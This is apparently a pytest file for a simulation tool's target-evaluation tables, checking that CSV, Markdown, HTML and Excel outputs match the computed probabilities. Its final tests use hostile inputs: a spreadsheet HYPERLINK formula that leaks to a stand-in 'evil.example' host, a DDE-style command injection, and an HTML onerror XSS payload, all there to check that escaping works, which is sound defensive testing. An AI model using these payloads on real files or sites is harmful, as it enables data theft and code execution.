"""The evaluation table in the plan's layout: numbers equal targets.csv in every format."""

from __future__ import annotations

import re

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from sim.output import tables as T
from sim.output.summary import print_summary


@pytest.fixture
def folder(results_folder):
    """The session's synthetic results folder (read only; building it takes ~10 s: tests are slow)."""
    return results_folder


@pytest.mark.slow
def test_plan_table_probabilities_equal_targets_csv(folder, make_dataset):
    table = pd.read_csv(folder / "targets.csv")
    plan = T.plan_table(table, make_dataset())
    assert len(plan) == len(table)
    ev = table["status"] == "evaluated"
    np.testing.assert_array_equal(plan.loc[ev.values, "p_met"].values,
                                  table.loc[ev, "probability"].values)
    np.testing.assert_array_equal(plan.loc[ev.values, "p_se"].values, table.loc[ev, "mc_se"].values)
    assert plan.loc[~ev.values, "p_met"].isna().all()
    # the reason, with its Chinese gloss in front where one is known (issue 21)
    assert all(p.endswith(t) for p, t in zip(plan.loc[~ev.values, "reason"],
                                             table.loc[~ev, "reason"].values))
    # the projection text is median [p10, p90]
    r = plan[ev.values].iloc[0]
    assert r["projection"] == (f"{T.fmt_number(r['median'])} "
                               f"[{T.fmt_number(r['p10'])}, {T.fmt_number(r['p90'])}]")


@pytest.mark.slow
def test_latest_actual_is_an_observation_never_a_model_estimate(folder, make_dataset):
    """Issue 12 item 7: "Latest actual" comes only from the data, with its year; without data
    nothing is shown (the simulated median at as_of used to be printed as the actual)."""
    from sim.history import load_history

    table = pd.read_csv(folder / "targets.csv")
    ds = make_dataset()
    no_history = T.plan_table(table, ds)
    shown = no_history.loc[no_history["latest_actual"] != "", "latest_actual"]
    assert shown.str.contains("model estimate|基期 base").all()   # labelled, never an actual
    assert no_history["latest_value"].dropna().eq(0.0).all()      # only "0 % at the base year"
    history = load_history().upto(2015)
    plan = T.plan_table(table, ds, history=history)
    gdp = plan[(plan["target_id"] == "gdp_2020_fyp13")].iloc[0]
    rows = history.select("gdp_nominal")
    level = rows[(rows["kind"] == "level") & (rows["year"] == 2015)]
    assert gdp["latest_value"] == pytest.approx(float(level["value"].iloc[0]))
    assert gdp["latest_actual"].endswith("(2015)")
    assert gdp["type"] in T.BINDING_TEXT.values()
    for r in plan.to_dict("records"):            # every number shown is a data row of its year
        if r["latest_value"] == r["latest_value"] and r["latest_actual"] and "%" not in r["latest_actual"]:
            year = int(r["latest_actual"].rsplit("(", 1)[1].rstrip(")"))
            series = table.loc[table["target_id"] == r["target_id"], "series"].iloc[0]
            obs = history.select(series)
            hit = obs[(obs["kind"] == "level") & (obs["year"] == year)]
            assert float(hit["value"].iloc[0]) == pytest.approx(r["latest_value"])


@pytest.mark.slow
def test_csv_round_trip(folder):
    table = pd.read_csv(folder / "targets.csv")
    back = pd.read_csv(folder / "targets_table.csv", encoding="utf-8-sig")
    # with the "responds to levers" flag of every row (issue 21)
    assert list(back.columns) == T.csv_columns(T.plan_table(table).assign(responds_to_levers=False))
    ev = table["status"] == "evaluated"
    np.testing.assert_allclose(back.loc[ev.values, "p_met"].values,
                               table.loc[ev, "probability"].values, rtol=1e-12)
    assert "指标" not in back.columns and back["indicator_zh"].notna().any()


@pytest.mark.slow
def test_markdown_has_every_probability_and_reason(folder):
    table = pd.read_csv(folder / "targets.csv")
    md = (folder / "targets.md").read_text(encoding="utf-8")
    for r in table[table["status"] == "evaluated"].itertuples():
        assert T.md_text(T.fmt_pm(r.probability, r.mc_se)) in md     # "<0.1%" as "\\<0.1%"
    for r in table[table["status"] != "evaluated"].itertuples():
        assert r.target_id in md and T.md_text(r.reason) in md
    assert md.count("\n|---") >= 3


@pytest.mark.slow
def test_html_table_is_self_contained(folder, external_ref):
    page = (folder / "targets.html").read_text(encoding="utf-8")
    assert not external_ref.search(page)
    assert 'class="num green"' in page or 'class="num red"' in page or 'class="num amber"' in page


def test_formatting_helpers():
    assert T.fmt_number(15000) == "15,000"
    assert T.fmt_number(-18.5) == "−18.5"
    assert T.fmt_number(0.41234) == "0.412"
    assert T.fmt_pm(0.623, 0.0031) == "62.3% ± 0.3%"
    assert T.fmt_pm(1.0, 0.0) == "100.0% ± <0.1%"
    assert T.target_text({"value": 26000, "comparator": ">="}) == "≥ 26,000"
    assert T.target_text({"value": 5, "value_high": 6, "comparator": "range"}) == "5–6"
    assert [T.light(p) for p in (0.9, 0.5, 0.1, float("nan"))] == ["green", "amber", "red", ""]
    # blanks, text and non-finite cells read as no number (sim.evaluation.as_number)
    assert [T.fmt_number(x) for x in (None, "", "n/a", float("inf"))] == ["–"] * 4
    assert T.fmt_pm(0.5, None) == "50.0% ± –" and T.fmt_pct("x") == "–"


@pytest.mark.slow
def test_print_summary_still_works(folder, capsys):
    table = pd.read_csv(folder / "targets.csv")
    print_summary(table, folder)
    out = capsys.readouterr().out
    assert "P(target met)" in out and "gdp_2020_fyp13" in out


# --- issue 14: text from user files is never a formula (XLSX) nor markup (Markdown) ----------
EVIL_FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")'
EVIL_HTML = '"><img src=x onerror=alert(1)>'


@pytest.mark.slow
def test_xlsx_never_holds_a_formula_and_keeps_numbers(folder, make_dataset, tmp_path):
    from sim.output.xlsx import write_xlsx

    table = pd.read_csv(folder / "targets.csv")
    ne = table["status"] != "evaluated"
    table.loc[ne, "reason"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    labels = {"baseline": EVIL_FORMULA, "faster": "+1-2"}
    plan = T.plan_table(table, make_dataset(), scenario_labels=labels)
    path = write_xlsx(plan, table, tmp_path / "t.xlsx", scenario_labels=labels,
                      provenance={"note": "=1+1", "draws": 300})
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    evaluated = (table["scenario"] == "baseline") & (table["status"] == "evaluated")
    assert texts.count(EVIL_FORMULA) == evaluated.sum()  # text survives (evaluation sheet rows)
    assert f"{EVIL_FORMULA} baseline" in [c.value for c in wb["达标概率 P(met)"][1]]  # a header
    assert "=1+1" in texts and "+1-2" in texts
    # numbers stay numbers
    ws = wb["评估表 Evaluation"]
    j = [c.value for c in ws[1]].index("达标概率 P(met)") + 1
    p = [ws.cell(row=i, column=j) for i in range(2, ws.max_row + 1)]
    assert any(c.data_type == "n" and isinstance(c.value, float) for c in p)


@pytest.mark.slow
def test_markdown_escapes_html_and_pipes(folder, make_dataset):
    table = pd.read_csv(folder / "targets.csv")
    table.loc[table["status"] != "evaluated", "reason"] = f"bad {EVIL_HTML} a|b & c"
    labels = {"baseline": EVIL_HTML, "faster": "<b>bold</b>"}
    plan = T.plan_table(table, make_dataset(), scenario_labels=labels)
    md = T.markdown(plan, table, title="<script>x</script>", scenario_labels=labels)
    bare = re.sub(r"\\.", "", md)                 # what is left after the escaped characters
    assert not re.search(r"<[A-Za-z/!?]", bare)    # no raw HTML (nor autolink) left
    # CommonMark backslash escapes, not HTML entities (issue 19): the raw file stays readable
    assert "\\<img src=x onerror=alert\\(1\\)\\>" in md and "\\<b\\>bold\\</b\\>" in md
    assert "a\\|b & c" in md and "&amp;" not in md and "&lt;" not in md
    assert T.md_table(["h"], [["x|y<z"]]).splitlines()[-1] == "| x\\|y\\<z |"
